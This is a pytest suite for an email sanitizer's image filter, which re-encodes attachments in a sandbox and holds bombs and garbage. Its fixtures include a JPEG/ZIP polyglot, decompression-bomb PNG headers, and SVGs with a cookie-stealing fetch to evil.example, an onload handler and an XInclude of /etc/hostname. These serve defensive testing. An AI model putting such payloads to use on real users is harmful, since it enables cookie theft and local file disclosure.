"""The image filter: real images made here with Pillow, converted in the real sandbox.

Every output is judged by :func:`check_output`, which shares no code with the converter: Pillow
reopens and fully decodes it, finds no EXIF/XMP/ICC/comment/text, the PNG chunk list or the JPEG
marker list holds structure only, the bytes end exactly at IEND's CRC / at EOI with no second JPEG
stream, and the dimensions are those of the input's first frame (after its EXIF orientation).
Inputs the filter must refuse (bombs, truncated, garbage) have to raise, so the runner holds them.
"""

from __future__ import annotations

import email
import email.policy
import hashlib
import io
import os
import struct
import zipfile
import zlib
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from PIL import ExifTags, Image, ImageCms, PngImagePlugin
from support.sandboxes import CannedSandbox, real_sandbox

from detox.config.schema import DetoxConfig
from detox.envelope import Envelope
from detox.errors import DetoxError, SandboxError
from detox.filters import image as image_filter
from detox.filters.base import FilterContext
from detox.filters.image import ImageFilter, ImageOptions, output_filename
from detox.pipeline.model import Action, Part, Role, Verdict
from detox.pipeline.registry import build_pipeline
from detox.pipeline.runner import Pipeline, detect_type
from detox.sandbox.base import Sandbox
from detox.sandbox.inside.converters import image as converter

CONFIG = DetoxConfig.model_validate({"sandbox": {"provider": "bwrap"}})
ENV = Envelope("0190000000000IMG", "sender@example.jp", ("taro@city.example.lg.jp",), "192.0.2.1", "mx")
CORPUS_ENV = "DETOX_CORPUS"
DEFAULT_CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus"
HAVE_RSVG = image_filter.rsvg_convert() is not None

# -- the sandbox --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sandbox() -> Sandbox:
    return real_sandbox(CONFIG)


@pytest.fixture
def ctx(sandbox: Sandbox) -> FilterContext:
    return FilterContext("0190000000000IMG", "example.jp", CONFIG, sandbox=sandbox)


FILTER = ImageFilter(ImageOptions())


def make_part(data: bytes, filename: str | None = "image", declared: str | None = None) -> Part:
    detected = detect_type(data)
    return Part(
        part_id="2",
        role=Role.ATTACHMENT,
        declared_type=declared or detected,
        detected_type=detected,
        charset_label=None,
        untrusted_filename=filename,
        payload=data,
        sha256=hashlib.sha256(data).hexdigest(),
    )


def convert(ctx: FilterContext, data: bytes, filename: str | None = "image") -> Verdict:
    part = make_part(data, filename)
    assert FILTER.applies_to(part), part.detected_type
    verdict = FILTER.process(part, ctx)
    assert verdict.action is Action.REPLACE
    assert verdict.output is not None
    assert verdict.output.data != data
    assert "image-reencoded" in verdict.notes
    return verdict


# -- the independent check ----------------------------------------------------------------------

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
PNG_ALLOWED_CHUNKS = {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
# SOI, APP0 (JFIF), DQT, SOF0/1/2, DHT, DRI, SOS, RSTn are structure; every other marker is not.
JPEG_ALLOWED_MARKERS = {0xD8, 0xE0, 0xDB, 0xC0, 0xC1, 0xC2, 0xC4, 0xDD, 0xDA, 0xD9}
FORBIDDEN_INFO = ("exif", "xmp", "XML:com.adobe.xmp", "icc_profile", "comment", "photoshop", "mp", "adobe")


def png_chunk_types(data: bytes) -> list[bytes]:
    """The chunk types, asserting that the file ends exactly after IEND's CRC."""
    assert data.startswith(PNG_SIGNATURE)
    pos, types = len(PNG_SIGNATURE), []
    while True:
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        ctype = data[pos + 4 : pos + 8]
        body = data[pos + 8 : pos + 8 + length]
        (crc,) = struct.unpack(">I", data[pos + 8 + length : pos + 12 + length])
        assert zlib.crc32(ctype + body) == crc, ctype
        types.append(ctype)
        pos += 12 + length
        if ctype == b"IEND":
            assert pos == len(data), f"{len(data) - pos} bytes after IEND"
            return types


def jpeg_markers(data: bytes) -> list[int]:
    """The markers of one JPEG stream, asserting that the file ends exactly at EOI."""
    assert data.startswith(b"\xff\xd8")
    markers, pos = [0xD8], 2
    while True:
        assert data[pos] == 0xFF, f"no marker at {pos}"
        marker = data[pos + 1]
        markers.append(marker)
        if marker == 0xD9:
            assert pos + 2 == len(data), f"{len(data) - pos - 2} bytes after EOI"
            return markers
        (length,) = struct.unpack(">H", data[pos + 2 : pos + 4])
        pos += 2 + length
        if marker == 0xDA:  # entropy-coded data up to the next marker that is not RSTn / stuffing
            while not (data[pos] == 0xFF and data[pos + 1] not in (0x00, *range(0xD0, 0xD8))):
                pos += 1


def check_output(data: bytes, content_type: str, size: tuple[int, int]) -> Image.Image:
    """Judge one output on its own: returns the decoded image for pixel checks."""
    if content_type == "image/png":
        assert set(png_chunk_types(data)) <= PNG_ALLOWED_CHUNKS
    else:
        assert content_type == "image/jpeg"
        assert set(jpeg_markers(data)) <= JPEG_ALLOWED_MARKERS
        assert data.endswith(b"\xff\xd9")
        assert b"\xff\xd8" not in data[2:], "a second JPEG stream"
    with Image.open(io.BytesIO(data)) as img:
        assert img.format == {"image/png": "PNG", "image/jpeg": "JPEG"}[content_type]
        img.load()
        assert img.size == size
        assert len(img.getexif()) == 0
        for key in FORBIDDEN_INFO:
            assert key not in img.info, key
        if isinstance(img, PngImagePlugin.PngImageFile):
            assert not img.text
        assert img.mode in ("1", "L", "I;16", "RGB", "RGBA")
        return img.copy()


def first_frame_size(data: bytes) -> tuple[int, int]:
    """The input's first frame as it is shown: EXIF orientations 5-8 swap the sides."""
    with Image.open(io.BytesIO(data)) as img:
        width, height = img.size
        orientation = img.getexif().get(0x0112, 1)
    return (height, width) if orientation in (5, 6, 7, 8) else (width, height)


# -- inputs ---------------------------------------------------------------------------------------


def save(img: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **params)
    return buf.getvalue()


def photo(size: tuple[int, int] = (96, 64)) -> Image.Image:
    """A picture with some structure (flat images compress to nothing and hide bugs)."""
    grad = Image.linear_gradient("L").resize(size)
    return Image.merge(
        "RGB", (grad, grad.transpose(Image.Transpose.ROTATE_90).resize(size), Image.new("L", size, 90))
    )


def gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "DetoxCam-SECRET-MAKE"
    exif[0x0112] = orientation
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (35.0, 41.0, 22.5), 3: "E", 4: (139.0, 45.0, 1.0)}
    return exif


def a_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("payload.js", "WScript.Echo('polyglot')")
    return buf.getvalue()


XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">SECRET-XMP</x:xmpmeta>'


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares huge dimensions in a few dozen bytes (a decompression bomb's header)."""

    def chunk(ctype: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", zlib.crc32(ctype + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


# -- conversions --------------------------------------------------------------------------------


def test_jpeg_with_gps_xmp_comment_and_appended_zip(ctx: FilterContext) -> None:
    data = save(photo(), "JPEG", exif=gps_exif(), xmp=XMP, comment=b"SECRET-COMMENT") + a_zip()
    assert zipfile.is_zipfile(io.BytesIO(data))  # a real polyglot
    verdict = convert(ctx, data, "写真.jpg")
    assert verdict.output is not None
    assert verdict.output.content_type == "image/jpeg"
    assert verdict.output.filename == "写真.jpg"
    check_output(verdict.output.data, "image/jpeg", first_frame_size(data))
    for secret in (b"SECRET", b"DetoxCam", b"PK\x03\x04", b"payload.js", b"xmpmeta"):
        assert secret not in verdict.output.data
    assert not zipfile.is_zipfile(io.BytesIO(verdict.output.data))
    assert {"exif": 1, "gps": 1, "xmp": 1, "comment": 1, "trailing-data": 1}.items() <= dict(
        verdict.removed
    ).items()


def test_png_with_text_itxt_exif_chunks_and_data_after_iend(ctx: FilterContext) -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "SECRET-TEXT")
    info.add_text("Author", "SECRET-AUTHOR", zip=True)
    info.add_itxt("Description", "SECRET-ITXT-説明")
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    data = save(photo(), "PNG", pnginfo=info, exif=gps_exif()) + b"AFTER-IEND" + a_zip()
    verdict = convert(ctx, data, "scan.png")
    assert verdict.output is not None
    assert verdict.output.content_type == "image/png"
    assert verdict.output.filename == "scan.png"
    img = check_output(verdict.output.data, "image/png", (96, 64))
    assert img.tobytes() == photo().tobytes()  # lossless
    for secret in (b"SECRET", b"AFTER-IEND", b"PK\x03\x04", b"DetoxCam"):
        assert secret not in verdict.output.data
    assert {"text": 3, "xmp": 1, "exif": 1, "trailing-data": 1}.items() <= dict(verdict.removed).items()


def test_animated_gif_keeps_the_first_frame(ctx: FilterContext) -> None:
    frames = [Image.new("RGB", (40, 30), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    data = save(
        frames[0], "GIF", save_all=True, append_images=frames[1:], loop=0, duration=100, comment=b"GIF-NOTE"
    )
    verdict = convert(ctx, data, "anim.gif")
    assert verdict.output is not None
    assert verdict.output.filename == "anim.png"
    img = check_output(verdict.output.data, "image/png", (40, 30))
    assert img.convert("RGB").getpixel((5, 5)) == (255, 0, 0)
    assert verdict.removed["frames-dropped"] == 2
    assert verdict.removed["comment"] == 1
    assert b"GIF-NOTE" not in verdict.output.data


def test_bmp_becomes_png_with_the_same_pixels(ctx: FilterContext) -> None:
    data = save(photo((33, 17)), "BMP")
    verdict = convert(ctx, data, "photo.bmp")
    assert verdict.output is not None
    assert verdict.output.filename == "photo.png"
    img = check_output(verdict.output.data, "image/png", (33, 17))
    assert img.convert("RGB").tobytes() == photo((33, 17)).tobytes()


def test_multipage_tiff_keeps_page_one(ctx: FilterContext) -> None:
    pages = [photo((50, 40)), Image.new("RGB", (10, 10), "white")]
    data = save(pages[0], "TIFF", save_all=True, append_images=pages[1:], description="SECRET-DESC")
    verdict = convert(ctx, data, "fax.tiff")
    assert verdict.output is not None
    assert verdict.output.filename == "fax.png"
    img = check_output(verdict.output.data, "image/png", (50, 40))
    assert img.tobytes() == pages[0].tobytes()
    assert verdict.removed["frames-dropped"] == 1
    assert verdict.removed["text"] >= 1
    assert b"SECRET-DESC" not in verdict.output.data


def test_bilevel_tiff_stays_one_bit(ctx: FilterContext) -> None:
    page = photo((64, 48)).convert("1")
    data = save(page, "TIFF", compression="group4")
    verdict = convert(ctx, data, "fax.tif")
    assert verdict.output is not None
    img = check_output(verdict.output.data, "image/png", (64, 48))
    assert img.mode == "1"
    assert img.tobytes() == page.tobytes()


def test_lossy_webp_with_metadata_becomes_jpeg(ctx: FilterContext) -> None:
    data = save(photo(), "WEBP", quality=80, exif=gps_exif(), xmp=XMP)
    verdict = convert(ctx, data, "pic.webp")
    assert verdict.output is not None
    assert verdict.output.filename == "pic.jpg"
    check_output(verdict.output.data, "image/jpeg", (96, 64))
    assert {"exif": 1, "xmp": 1}.items() <= dict(verdict.removed).items()


def test_animated_webp_with_alpha_becomes_png(ctx: FilterContext) -> None:
    frames = [Image.new("RGBA", (24, 20), (255, 0, 0, 128)), Image.new("RGBA", (24, 20), (0, 0, 255, 255))]
    data = save(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True)
    verdict = convert(ctx, data, "anim.webp")
    assert verdict.output is not None
    img = check_output(verdict.output.data, "image/png", (24, 20))
    assert img.mode == "RGBA"
    assert img.getpixel((3, 3)) == (255, 0, 0, 128)
    assert verdict.removed["frames-dropped"] == 1


def test_cmyk_jpeg_becomes_rgb(ctx: FilterContext) -> None:
    data = save(Image.new("CMYK", (40, 40), (0, 255, 255, 0)), "JPEG", quality=95)
    verdict = convert(ctx, data, "print.jpg")
    assert verdict.output is not None
    img = check_output(verdict.output.data, "image/jpeg", (40, 40))
    assert img.mode == "RGB"
    red, green, blue = img.getpixel((20, 20))  # type: ignore[misc]
    assert red > 230 and green < 30 and blue < 30


def test_palette_png_with_transparency_becomes_rgba(ctx: FilterContext) -> None:
    pal = Image.new("P", (16, 8), 0)
    pal.putpalette([0, 0, 0, 255, 0, 0] + [0] * (254 * 3))
    for x in range(8, 16):
        for y in range(8):
            pal.putpixel((x, y), 1)
    data = save(pal, "PNG", transparency=0)
    verdict = convert(ctx, data, "icon.png")
    assert verdict.output is not None
    img = check_output(verdict.output.data, "image/png", (16, 8))
    assert img.mode == "RGBA"
    assert img.getpixel((2, 2))[3] == 0  # type: ignore[index]
    assert img.getpixel((12, 2)) == (255, 0, 0, 255)


def test_icc_profile_is_applied_then_dropped(ctx: FilterContext) -> None:
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = save(Image.new("RGB", (32, 32), (200, 120, 40)), "JPEG", quality=95, icc_profile=srgb)
    verdict = convert(ctx, data)
    assert verdict.output is not None
    img = check_output(verdict.output.data, "image/jpeg", (32, 32))
    assert verdict.removed["icc-profile"] == 1
    assert all(abs(a - b) <= 6 for a, b in zip(img.getpixel((16, 16)), (200, 120, 40), strict=True))  # type: ignore[arg-type]


def test_broken_icc_profile_is_dropped_and_the_image_kept(ctx: FilterContext) -> None:
    data = save(photo(), "JPEG", icc_profile=b"not an ICC profile at all" * 4)
    verdict = convert(ctx, data)
    assert verdict.output is not None
    check_output(verdict.output.data, "image/jpeg", (96, 64))
    assert verdict.removed["icc-profile"] == 1


def test_exif_orientation_is_applied_to_the_pixels(ctx: FilterContext) -> None:
    data = save(photo((80, 40)), "JPEG", exif=gps_exif(orientation=6))
    verdict = convert(ctx, data, "IMG_0001.JPG")
    assert verdict.output is not None
    assert verdict.output.filename == "IMG_0001.JPG"
    check_output(verdict.output.data, "image/jpeg", (40, 80))


def test_sixteen_bit_png_stays_sixteen_bit(ctx: FilterContext) -> None:
    deep = Image.new("I;16", (20, 10), 40000)
    verdict = convert(ctx, save(deep, "PNG"))
    assert verdict.output is not None
    img = check_output(verdict.output.data, "image/png", (20, 10))
    assert img.getpixel((0, 0)) == 40000


def test_mpo_keeps_one_jpeg_stream(ctx: FilterContext) -> None:
    data = save(photo(), "MPO", save_all=True, append_images=[Image.new("RGB", (96, 64), "blue")])
    assert data.count(b"\xff\xd8\xff") >= 2
    verdict = convert(ctx, data, "stereo.jpg")
    assert verdict.output is not None
    check_output(verdict.output.data, "image/jpeg", (96, 64))
    assert verdict.removed["frames-dropped"] == 1


@pytest.mark.parametrize("fmt", ["PNG", "JPEG"])
def test_an_already_converted_image_still_yields_new_bytes(ctx: FilterContext, fmt: str) -> None:
    # Fed its own output, the converter's first encoding is byte for byte the input (for PNG it
    # always is). The runner would refuse that as "input passed unchanged", so the converter
    # encodes the same pixels again with other settings.
    first = convert(ctx, save(Image.new("RGB", (32, 16), (10, 200, 30)), fmt, quality=95))
    assert first.output is not None
    again = convert(ctx, first.output.data)  # asserts output != input
    assert again.output is not None
    check_output(again.output.data, first.output.content_type, (32, 16))


def test_mislabelled_image_is_claimed_by_its_bytes_and_renamed(ctx: FilterContext) -> None:
    data = save(photo(), "GIF")
    part = make_part(data, "report.pdf", declared="application/pdf")
    assert FILTER.applies_to(part)
    verdict = FILTER.process(part, ctx)
    assert verdict.output is not None
    assert verdict.output.filename == "report.pdf.png"
    check_output(verdict.output.data, "image/png", (96, 64))


# -- refusals: the filter raises and the runner holds --------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("png-50000x50000", png_header_only(50_000, 50_000)),  # over 2 x max_pixels: Pillow's error
        ("png-7000x7000", png_header_only(7_000, 7_000)),  # 49 Mpx: Pillow only warns; an error here
        ("png-40000x2", png_header_only(40_000, 2)),  # few pixels, but wider than max_width
    ],
)
def test_decompression_bombs_are_held_as_over_the_limit(ctx: FilterContext, name: str, data: bytes) -> None:
    assert len(data) < 200
    part = make_part(data, f"{name}.png")
    assert FILTER.applies_to(part)
    verdict = FILTER.process(part, ctx)
    assert (verdict.action, verdict.reason, verdict.output) == (Action.HOLD, "limit-exceeded", None)


def test_jpeg_declaring_huge_dimensions_is_held(ctx: FilterContext) -> None:
    data = bytearray(save(photo(), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 60_000, 60_000)  # height, width
    verdict = FILTER.process(make_part(bytes(data), "bomb.jpg"), ctx)
    assert (verdict.action, verdict.reason) == (Action.HOLD, "limit-exceeded")


def test_bomb_options_are_honoured(ctx: FilterContext) -> None:
    strict = ImageFilter(ImageOptions(max_pixels=1000))
    verdict = strict.process(make_part(save(photo(), "PNG")), ctx)
    assert (verdict.action, verdict.reason) == (Action.HOLD, "limit-exceeded")
    saved = Image.MAX_IMAGE_PIXELS  # the converter sets Pillow's global cap (it owns its process)
    try:
        meta, image = converter.unpack_result(converter.main(save(photo(), "PNG"), {"max_pixels": 1000}))
    finally:
        Image.MAX_IMAGE_PIXELS = saved
    assert meta["status"] == "held" and "exceeds" in meta["detail"] and image == b""


def test_a_held_answer_with_another_reason_or_bytes_is_an_error() -> None:
    for meta, image in (
        ({"status": "held", "reason": "because"}, b""),
        ({"status": "held", "reason": "limit-exceeded"}, b"x"),
    ):
        ctx = FilterContext(
            "Q", "example.jp", CONFIG, sandbox=CannedSandbox(converter.pack_result(meta, image))
        )
        with pytest.raises(DetoxError):
            FILTER.process(make_part(save(photo(), "PNG")), ctx)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_truncated_image_raises(ctx: FilterContext, fmt: str) -> None:
    noise = Image.frombytes("RGB", (200, 200), os.urandom(200 * 200 * 3))
    data = save(noise, fmt)
    part = make_part(data[: len(data) * 6 // 10], "cut")
    assert FILTER.applies_to(part)
    with pytest.raises(SandboxError, match=r"truncated|broken data stream|EOF"):
        FILTER.process(part, ctx)


def test_garbage_declared_png_is_not_claimed_and_raises_if_forced(ctx: FilterContext) -> None:
    garbage = b"\x00\x13\x37garbage, not an image\xff" * 40
    part = make_part(garbage, "photo.png", declared="image/png")
    assert part.detected_type not in image_filter.IMAGE_TYPES
    assert not FILTER.applies_to(part)  # the runner holds it as unsupported-type
    with pytest.raises(SandboxError):
        FILTER.process(part, ctx)


def test_png_header_on_garbage_raises(ctx: FilterContext) -> None:
    data = png_header_only(64, 64)[:33] + os.urandom(300)
    part = make_part(data, "x.png")
    assert FILTER.applies_to(part)
    with pytest.raises(SandboxError):
        FILTER.process(part, ctx)


def test_no_sandbox_raises() -> None:
    part = make_part(save(photo(), "PNG"))
    with pytest.raises(SandboxError, match="no sandbox"):
        FILTER.process(part, FilterContext("Q", "example.jp", CONFIG, sandbox=None))


# -- SVG ----------------------------------------------------------------------------------------

SVG_WITH_SCRIPT = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="200" height="100" onload="alert('onload')">
  <script type="text/javascript">fetch('https://evil.example/' + document.cookie)</script>
  <rect width="200" height="100" fill="#ff0000"/>
  <a xlink:href="https://evil.example/login"><text x="10" y="50">click</text></a>
</svg>
"""
SVG_EXTERNAL = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"
     width="300" height="100">
  <text x="0" y="50" font-size="40"><xi:include href="/etc/hostname" parse="text"/></text>
  <image href="file:///usr/share/pixmaps/debian-logo.png" width="100" height="100"/>
  <image href="http://192.0.2.1/track.png" width="100" height="100"/>
</svg>
"""


def test_svg_detected_and_claimed() -> None:
    part = make_part(SVG_WITH_SCRIPT, "logo.svg", declared="image/svg+xml")
    assert part.detected_type == "image/svg+xml"
    assert FILTER.applies_to(part)


@pytest.mark.skipif(not HAVE_RSVG, reason="rsvg-convert (librsvg2-bin) not installed: SVG is held")
def test_svg_with_script_is_rasterized(ctx: FilterContext) -> None:
    verdict = convert(ctx, SVG_WITH_SCRIPT, "logo.svg")
    assert verdict.output is not None
    assert verdict.output.filename == "logo.png"
    img = check_output(verdict.output.data, "image/png", (2048, 1024))  # fitted into 2048 x 2048
    assert img.convert("RGB").getpixel((1000, 900)) == (255, 0, 0)
    assert b"script" not in verdict.output.data and b"evil" not in verdict.output.data
    assert verdict.removed["script"] == 1
    assert verdict.removed["event-handler"] == 1
    assert verdict.removed["external-reference"] == 1
    assert "svg-rasterized" in verdict.notes


@pytest.mark.skipif(not HAVE_RSVG, reason="rsvg-convert (librsvg2-bin) not installed: SVG is held")
def test_svg_external_references_are_not_loaded(ctx: FilterContext) -> None:
    verdict = convert(ctx, SVG_EXTERNAL, "x.svg")
    assert verdict.output is not None
    img = check_output(verdict.output.data, "image/png", (2048, 683))
    # Nothing was drawn: neither the included file's text nor any of the images.
    assert img.mode == "RGBA"
    assert img.getchannel("A").getextrema() == (0, 0)


def test_svg_is_held_when_configured_or_without_rsvg(
    ctx: FilterContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    part = make_part(SVG_WITH_SCRIPT, "logo.svg")
    held = ImageFilter(ImageOptions(svg="hold")).process(part, ctx)
    assert (held.action, held.reason) == (Action.HOLD, "svg")
    monkeypatch.setattr(image_filter, "rsvg_convert", lambda: None)
    held = FILTER.process(part, ctx)
    assert (held.action, held.reason) == (Action.HOLD, "svg")


# -- the pipeline -------------------------------------------------------------------------------


def test_through_the_pipeline(sandbox: Sandbox) -> None:
    photo_jpeg = save(photo(), "JPEG", exif=gps_exif(), comment=b"SECRET-COMMENT") + a_zip()
    garbage = b"\x00\x13\x37garbage, not an image\xff" * 40
    msg = EmailMessage()
    msg["From"] = "sender@example.jp"
    msg["To"] = "taro@city.example.lg.jp"
    msg["Subject"] = "写真"
    msg.set_content("写真を送ります。\n")
    msg.add_attachment(photo_jpeg, maintype="image", subtype="jpeg", filename="現場写真.jpg")
    msg.add_attachment(garbage, maintype="image", subtype="png", filename="fake.png")
    msg.add_attachment(
        save(photo(), "BMP"), maintype="application", subtype="octet-stream", filename="図.bmp"
    )
    config = CONFIG
    pipeline = Pipeline(config, filters=[ImageFilter(ImageFilter.Options()), *build_pipeline(config)])
    result = pipeline.run(msg.as_bytes(), ENV)
    records = {r.filename: r for r in result.records}

    jpeg_record = records["現場写真.jpg"]
    assert (jpeg_record.filter, jpeg_record.action) == ("image", "replace")
    assert {"exif": 1, "comment": 1, "trailing-data": 1}.items() <= jpeg_record.removed.items()
    bmp_record = records["図.bmp"]
    assert (bmp_record.filter, bmp_record.action) == ("image", "replace")
    garbage_record = records["fake.png"]
    assert (garbage_record.action, garbage_record.reason) == ("hold", "unsupported-type")
    assert "image-reencoded=2" in result.actions

    out = email.message_from_bytes(result.output, policy=email.policy.default)
    assert isinstance(out, EmailMessage)
    attachments = {a.get_filename(): a for a in out.iter_attachments()}
    assert set(attachments) == {"現場写真.jpg", "図.png"}
    jpeg = attachments["現場写真.jpg"]
    assert jpeg.get_content_type() == "image/jpeg"
    jpeg_bytes = jpeg.get_content()
    assert isinstance(jpeg_bytes, bytes)
    check_output(jpeg_bytes, "image/jpeg", (96, 64))
    assert jpeg_record.output_sha256 == hashlib.sha256(jpeg_bytes).hexdigest()
    png = attachments["図.png"]
    assert png.get_content_type() == "image/png"
    png_bytes = png.get_content()
    assert isinstance(png_bytes, bytes)
    check_output(png_bytes, "image/png", (96, 64))
    assert bmp_record.output_sha256 == hashlib.sha256(png_bytes).hexdigest()
    report_parts = {p.filename: p for p in result.report.parts}
    assert report_parts["現場写真.jpg"].output_sha256 == jpeg_record.output_sha256


# -- names, options, the wire format (no sandbox needed) ----------------------------------------


@pytest.mark.parametrize(
    ("name", "content_type", "expected"),
    [
        ("photo.bmp", "image/png", "photo.png"),
        ("scan.jpeg", "image/jpeg", "scan.jpeg"),
        ("IMG_1.JPG", "image/jpeg", "IMG_1.JPG"),
        ("photo.png", "image/jpeg", "photo.jpg"),  # a JPEG named .png
        ("logo.SVG", "image/png", "logo.png"),
        ("anim.gif", "image/png", "anim.png"),
        ("fax.tiff", "image/png", "fax.png"),
        ("invoice.exe", "image/png", "invoice.exe.png"),
        ("noext", "image/jpeg", "noext.jpg"),
        (".png", "image/jpeg", ".png.jpg"),
        (None, "image/png", "image.png"),
        ("  ", "image/jpeg", "image.jpg"),
    ],
)
def test_output_filename(name: str | None, content_type: str, expected: str) -> None:
    assert output_filename(name, content_type) == expected


def test_applies_to_detected_types_of_attachments_only() -> None:
    png = save(photo(), "PNG")
    assert FILTER.applies_to(make_part(png, declared="application/octet-stream"))
    body = Part("1", Role.BODY, "text/plain", "image/png", None, None, png, "0" * 64)
    assert not FILTER.applies_to(body)
    for other in ("image/x-icon", "image/heic", "application/pdf", "text/plain"):
        part = Part("2", Role.ATTACHMENT, "image/png", other, None, "a.png", png, "0" * 64)
        assert not FILTER.applies_to(part)


def test_options_are_strict() -> None:
    with pytest.raises(ValueError, match="extra"):
        ImageOptions.model_validate({"max_pixel": 10})
    with pytest.raises(ValueError, match="jpeg_quality"):
        ImageOptions.model_validate({"jpeg_quality": 100})


def test_wire_format_round_trip_and_malformed_results() -> None:
    packed = converter.pack_result({"content_type": "image/png", "width": 1}, b"\x89PNG...")
    assert converter.unpack_result(packed) == ({"content_type": "image/png", "width": 1}, b"\x89PNG...")
    for bad in (
        b"",
        b"DXI1",
        b"XXXX\x00\x00\x00\x02{}",
        b"DXI1\x00\x01\x00\x00{}",
        b"DXI1\x00\x00\x00\x02[]",
    ):
        with pytest.raises(ValueError):
            converter.unpack_result(bad)


GOOD_PNG = save(Image.new("RGB", (4, 4)), "PNG")


@pytest.mark.parametrize(
    ("meta", "image"),
    [
        ({"content_type": "image/svg+xml", "width": 4, "height": 4}, GOOD_PNG),
        ({"content_type": "image/png", "width": 4}, GOOD_PNG),
        ({"content_type": "image/png", "width": 40_000, "height": 4}, GOOD_PNG),
        ({"content_type": "image/png", "width": 4, "height": 4}, GOOD_PNG + b"trailer"),
        ({"content_type": "image/jpeg", "width": 4, "height": 4}, GOOD_PNG),
        ({"content_type": "image/png", "width": 4, "height": 4, "removed": {"x": -1}}, GOOD_PNG),
        ({"content_type": "image/png", "width": 4, "height": 4, "frames_dropped": "2"}, GOOD_PNG),
    ],
)
def test_filter_rejects_implausible_converter_results(meta: dict[str, object], image: bytes) -> None:
    ctx = FilterContext("Q", "example.jp", CONFIG, sandbox=CannedSandbox(converter.pack_result(meta, image)))
    with pytest.raises(DetoxError):
        FILTER.process(make_part(save(photo(), "PNG")), ctx)


def test_converter_counts_metadata_in_process() -> None:
    """The converter's own bookkeeping, without a sandbox (its caps are exercised above, sandboxed)."""
    data = save(photo(), "GIF", comment=b"hello") + b"TRAILER"
    meta, image = converter.unpack_result(converter.main(data, {}))
    assert meta["removed"] == {"comment": 1, "trailing-data": 1}
    assert meta["source_format"] == "GIF" and meta["content_type"] == "image/png"
    check_output(image, "image/png", (96, 64))
    with pytest.raises(converter.ImageRejected):
        converter.main(data, {"max_pixels": -1})
    with pytest.raises(converter.ImageRejected):
        converter.main(data, {"jpeg_quality": 99})


# -- the corkami corpus -------------------------------------------------------------------------


def corpus_images() -> list[Path]:
    configured = os.environ.get(CORPUS_ENV)
    root = Path(configured).expanduser() if configured else DEFAULT_CORPUS
    folder = root / "docs" / "corkami-pocs" / "images"
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.is_dir() else []


CORPUS_IMAGES = corpus_images()


def _corpus_params() -> Iterator[object]:
    if not CORPUS_IMAGES:
        yield pytest.param(None, marks=pytest.mark.skip(reason="corkami images not in ../shared/corpus"))
    for path in CORPUS_IMAGES:
        yield pytest.param(path, id=f"{path.parent.name}/{path.name}")


@pytest.mark.corpus
@pytest.mark.parametrize("path", list(_corpus_params()))
def test_corkami_images_are_converted_and_checked_or_held(ctx: FilterContext, path: Path | None) -> None:
    assert path is not None
    data = path.read_bytes()  # read in place, never copied
    part = make_part(data, path.name)
    if not FILTER.applies_to(part):
        return  # no filter claims it: the runner holds it as unsupported-type
    try:
        verdict = FILTER.process(part, ctx)
    except DetoxError:
        return  # raised: the runner holds it
    assert verdict.action is Action.REPLACE and verdict.output is not None
    assert verdict.output.data != data
    check_output(verdict.output.data, verdict.output.content_type, first_frame_size(data))
